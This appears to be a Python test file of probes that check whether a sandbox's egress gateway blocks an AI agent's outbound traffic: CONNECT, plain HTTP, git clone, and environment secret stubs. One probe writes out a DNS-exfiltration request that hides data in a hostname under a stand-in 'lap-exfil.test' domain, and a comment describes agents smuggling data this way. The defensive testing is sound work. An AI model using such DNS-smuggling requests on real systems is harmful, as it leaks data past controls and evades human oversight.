"""The egress gateway from team B's sandbox, whose agent has no egress policy and whose team holds no secret: it
reaches nothing (CONNECT, plain HTTP, a real git), not even the DNS (names it chooses, which a gateway resolving them
would carry to their domain's name servers), and no secret's stub is in its environment."""

import socket
import subprocess

from kit import PARAMS, environ_of, http, pids, probe, short

GATEWAY = ("127.0.0.1", 3128)
NONCE = PARAMS["nonce"]
SITES = PARAMS["sites"]


def connect_status(host, port):
    try:
        with socket.create_connection(GATEWAY, timeout=8) as sock:
            sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
            answer = sock.recv(4096)
        return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.") else None
    except (OSError, ValueError, IndexError) as error:
        return type(error).__name__


@probe("no_policy_reaches_nothing")
def _nothing():
    outcomes = {f"CONNECT {s['host']}:{s['port']}": connect_status(s["host"], s["port"]) for s in SITES.values()}
    for key, site in SITES.items():
        url = f"http://{site['host']}:{site['port']}/?n={NONCE}-closed-{key}"
        raw = f"GET {url} HTTP/1.1\r\nHost: {site['host']}:{site['port']}\r\nConnection: close\r\n\r\n"
        outcomes[f"GET {url}"] = http(raw=raw.encode(), address=GATEWAY)[0]
    clone = subprocess.run(
        ["git", "clone", "-q", f"{SITES['git']['url']}/app", "/tmp/app"],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    refused = all(status == 403 for status in outcomes.values())
    said = "403" in clone.stderr
    held = refused and clone.returncode != 0 and said
    return held, f"{outcomes}; git clone: rc {clone.returncode} {short(clone.stderr.encode(), 200)}"


@probe("no_secret_stub_without_a_secret")
def _no_stub():
    holders = sorted(
        {f"{name} in {pid}" for pid in pids() for name, value in environ_of(pid).items() if value.startswith("lapsec_")}
    )
    return not holders, f"secret stubs: {holders}" if holders else "no process holds a secret's stub"


@probe("denied_names_refused")
def _names():
    # Data an agent would smuggle out as a DNS name: the host must not look it up (the test sniffs its packets).
    label = PARAMS["exfil_label"]
    outcomes = {
        "CONNECT": connect_status(f"{label}.lap-exfil.test", 443),
        "GET": http(
            raw=f"GET http://{label}.lap-exfil.test/ HTTP/1.1\r\nHost: {label}.lap-exfil.test\r\n\r\n".encode(),
            address=GATEWAY,
        )[0],
    }
    return all(status == 403 for status in outcomes.values()), str(outcomes)
